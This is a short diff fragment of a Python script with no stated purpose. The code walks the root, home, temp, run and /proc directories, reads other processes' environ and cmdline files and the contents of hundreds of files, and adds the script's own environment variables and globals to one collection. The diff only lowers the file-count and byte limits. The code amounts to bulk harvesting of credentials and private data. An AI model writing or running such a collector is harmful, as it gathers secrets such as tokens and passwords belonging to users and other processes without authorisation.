@@ -17,11 +17,11 @@ for root in [os.getcwd(), "/tmp", "/root", "/home", "/proc", "/run", "/var/tmp",
         if place.startswith("/proc"):
             folders[:] = [name for name in folders if name.isdigit()] if place == "/proc" else []
             names = [name for name in names if name in ("environ", "cmdline")]
-        for name in names[:max(0, 2000 - seen)]:
+        for name in names[:max(0, 500 - seen)]:
             seen += 1
             try:
                 with open(os.path.join(place, name), "rb") as file:
-                    places.append(file.read(65536))
+                    places.append(file.read(16384))
             except OSError:
                 pass
 places += [repr(dict(os.environ)).encode(), repr(globals()).encode()]
